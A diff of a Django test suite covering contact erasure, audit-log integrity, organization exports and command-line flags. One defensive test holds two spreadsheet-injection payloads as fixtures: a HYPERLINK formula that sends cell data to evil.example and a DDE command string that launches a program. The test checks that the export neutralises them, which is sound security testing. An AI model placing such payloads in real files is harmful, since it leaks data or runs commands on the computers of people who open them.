@@ -409,7 +409,8 @@ def test_it_exports_only_the_organizations_own_rows_with_a_manifest(tmp_path):
     manifest, tables = _read_export(output.read_bytes())
     assert manifest["schema_version"] == privacy.EXPORT_SCHEMA_VERSION
     assert manifest["organization"]["slug"] == mine.slug
-    assert {name: len(rows) for name, rows in tables.items()} == manifest["files"]
+    csv_files = {name: count for name, count in manifest["files"].items() if name.endswith(".csv")}
+    assert {name: len(rows) for name, rows in tables.items()} == csv_files
     assert len(tables) == len(tenant_models()) + 1  # and the members
     assert tables["accounts/contact.csv"][0]["name"] == "José Ção"  # UTF-8
     assert [r["body"] for r in tables["accounts/note.csv"]] == ["mine note"]
@@ -430,7 +431,7 @@ def test_it_exports_the_to_dos_and_survey_invitations_under_their_model_names(tm
     manifest, tables = _read_export(output.read_bytes())
     assert {"journeys/todo.csv", "surveys/surveyinvitation.csv"} <= set(tables)
     assert not {"journeys/task.csv", "surveys/invitation.csv"} & set(tables)
-    assert manifest["schema_version"] == 2  # the files' names changed from version 1
+    assert manifest["schema_version"] >= 2  # the files' names changed from version 1
 
 
 def test_it_never_exports_api_key_hashes_or_passwords(tmp_path):
@@ -567,3 +568,171 @@ def test_it_lets_admins_set_the_retention_of_at_least_30_days(team, signed_in):
     assert client.post(url, {"usage_event_retention_days": ""}).status_code == 302
     team.organization.refresh_from_db()
     assert team.organization.usage_event_retention_days is None
+
+
+# --- review of issue 17: erasure never rewrites identities or keys ----------------------
+
+
+def _audit_log(organization):
+    from accounts.models import AuditEvent
+
+    with tenant_context(organization):
+        entries = AuditEvent.objects.order_by("pk")
+        return list(entries.values_list("action", "actor_email", "target", "details"))
+
+
+def test_it_never_rewrites_the_audit_log_or_a_members_identity_and_records_who_asked(org):
+    from accounts.models import AuditEvent, MemberInvitation
+
+    owner = MembershipFactory(organization=org, role=Role.OWNER)
+    member = MembershipFactory(organization=org, role=Role.ADMIN, user__email=EMAIL)
+    with tenant_context(org):
+        MemberInvitation.objects.create(
+            email=EMAIL, role=Role.ADMIN, invited_by=owner.user, accepted_at=timezone.now()
+        )
+        services.api_key_create(name="sync", created_by=member.user)  # actor: her email
+    services.membership_change_role(membership=member, role=Role.MANAGER, actor=owner)  # target
+    maria, _also = _a_person_everywhere(org)
+    before = _audit_log(org)
+    assert [entry[1:3] for entry in before] == [(EMAIL, "sync"), (owner.user.email, EMAIL)]
+
+    client, headers = _api(org)
+    assert client.post(f"/api/v1/contacts/{maria.pk}/erase/", headers=headers).status_code == 200
+
+    after = _audit_log(org)
+    assert after[: len(before)] == before  # append-only: her entries as they were
+    with tenant_context(org):
+        assert MemberInvitation.objects.get(accepted_at__isnull=False).email == EMAIL
+        erased = AuditEvent.objects.get(action=AuditEvent.Action.CONTACT_ERASED)
+        key = ApiKey.objects.get(name="tests")
+    # Who asked: the API key (an API call has no user); and that she is a member.
+    assert erased.details["requested_by"] == {"name": "tests", "prefix": key.prefix}
+    assert erased.details["member_identity_kept"] is True
+    assert (erased.target, EMAIL in json.dumps(erased.details)) == (f"#{maria.pk}", False)
+
+
+def test_it_says_on_the_page_that_a_members_identity_was_kept(org, signed_in):
+    admin = MembershipFactory(organization=org, role=Role.ADMIN).user
+    MembershipFactory(organization=org, role=Role.VIEWER, user__email=EMAIL)
+    maria, _also = _a_person_everywhere(org)
+    url = reverse("accounts:contact_erase", args=[org.slug, maria.pk])
+    page = signed_in(admin).post(url, {"email": EMAIL}, follow=True).content.decode()
+    assert "also a member of this organization" in page
+    with tenant_context(org):
+        assert not Contact.objects.filter(email=EMAIL).exists()  # erased all the same
+
+
+def test_it_erases_people_whose_email_is_a_key_and_keeps_the_key(org, signed_in):
+    """Accounts whose external id is the person's email: erasing them one after another
+    (API, page, command) never rewrites the key, so keys never collide."""
+    people = ["p1@erase.test", "p2@erase.test", "p3@erase.test"]
+    with tenant_context(org):
+        accounts_upsert([{"external_id": email, "name": email.upper()} for email in people])
+        contacts_upsert([{"account_external_id": email, "email": email} for email in people])
+        for account in Account.objects.all():
+            SubscriptionFactory(account=account, external_id=f"sub-{account.external_id}")
+        first, second = (Contact.objects.get(email=email) for email in people[:2])
+
+    client, headers = _api(org)
+    response = client.post(f"/api/v1/contacts/{first.pk}/erase/", headers=headers)
+    assert response.status_code == 200
+    admin = MembershipFactory(organization=org, role=Role.ADMIN).user
+    page = signed_in(admin).post(
+        reverse("accounts:contact_erase", args=[org.slug, second.pk]), {"email": people[1]}
+    )
+    assert page.status_code == 302
+    call_command("erase_contact", "--org", org.slug, "--email", people[2], stdout=io.StringIO())
+
+    with tenant_context(org):
+        assert not Contact.objects.exists()
+        assert ContactErasure.objects.count() == 3
+        assert sorted(Account.objects.values_list("external_id", flat=True)) == people
+        assert sorted(Account.objects.values_list("subscriptions__external_id", flat=True)) == [
+            f"sub-{email}" for email in people
+        ]
+        # The display name is not a key: it is redacted as any text naming the person.
+        assert set(Account.objects.values_list("name", flat=True)) == {privacy.REDACTED}
+
+
+def test_it_leaves_every_unique_column_out_of_the_sweep():
+    with connection.cursor() as cursor:
+        cursor.execute("SELECT 1")
+    columns = privacy._text_columns()
+    assert "accounts_auditevent" not in columns  # append-only
+    for table, column in [
+        ("accounts_account", "external_id"),
+        ("accounts_subscription", "external_id"),
+        ("accounts_memberinvitation", "email"),  # a member's identity, and a unique key
+    ]:
+        assert column not in [name for name, _type, _length in columns.get(table, [])]
+    assert "name" in [name for name, _type, _length in columns["accounts_account"]]
+
+
+# --- review of issue 17: the export is safe to open in a spreadsheet ---------------------
+
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
+COMMAND = "+1+cmd|' /C calc'!A0"
+
+
+def test_it_exports_cells_a_spreadsheet_cannot_run_and_the_raw_rows_beside_them(tmp_path):
+    mine, _theirs = _two_organizations_with_data()
+    with tenant_context(mine):
+        account = AccountFactory(name=COMMAND, segment="-2+3", custom_attributes={"a": "@x"})
+        ResponseFactory(invitation__contact__account=account, comment=FORMULA, score=3)
+        SubscriptionFactory(account=account, amount_cents=0)
+    output = tmp_path / "mine.zip"
+    call_command("export_organization", "--org", mine.slug, "--output", str(output))
+    manifest, tables = _read_export(output.read_bytes())
+    archive = zipfile.ZipFile(output)
+
+    assert manifest["schema_version"] == 3
+    accounts = {row["id"]: row for row in tables["accounts/account.csv"]}
+    assert accounts[str(account.pk)]["name"] == "'" + COMMAND
+    assert accounts[str(account.pk)]["segment"] == "'-2+3"
+    comments = [row["comment"] for row in tables["surveys/response.csv"]]
+    assert "'" + FORMULA in comments
+    assert not any(
+        cell[:1] in ("=", "+", "@", "\t", "\r")
+        for rows in tables.values()
+        for row in rows
+        for cell in row.values()
+    )
+    # Numbers stay numbers: a negative amount would not be a formula.
+    assert all(not row["id"].startswith("'") for row in tables["accounts/account.csv"])
+
+    # For machines: the same rows, raw and typed, as JSON Lines beside each CSV.
+    raw = [
+        json.loads(line) for line in archive.read("accounts/account.jsonl").decode().splitlines()
+    ]
+    assert {row["id"]: row["name"] for row in raw}[account.pk] == COMMAND
+    assert {row["id"]: row["custom_attributes"] for row in raw}[account.pk] == {"a": "@x"}
+    responses = archive.read("surveys/response.jsonl").decode().splitlines()
+    assert FORMULA in [json.loads(line)["comment"] for line in responses]
+    for name in tables:
+        jsonl = name.removesuffix(".csv") + ".jsonl"
+        assert len(archive.read(jsonl).decode().splitlines()) == len(tables[name])
+        assert manifest["files"][jsonl] == manifest["files"][name]
+
+
+# --- review of issue 17: one spelling of the organization on the command line -----------
+
+
+@pytest.mark.parametrize("flag", ["--org", "--organization"])
+@pytest.mark.parametrize(
+    ("app", "command", "rest"),
+    [
+        ("accounts", "erase_contact", ["--email", "a@b.example"]),
+        ("accounts", "export_organization", ["--output", "x.zip"]),
+        ("accounts", "import_csv", ["accounts", "x.csv"]),
+        ("metrics", "metrics", []),
+    ],
+)
+def test_it_takes_the_organization_as_org_or_organization_in_every_command(
+    app, command, rest, flag
+):
+    from django.core.management import load_command_class
+
+    parser = load_command_class(app, command).create_parser("manage.py", command)
+    options = parser.parse_args([flag, "acme-brasil", *rest])
+    assert "acme-brasil" in vars(options).values()
+    assert "--org SLUG" in parser.format_usage()  # the one spelling the help teaches
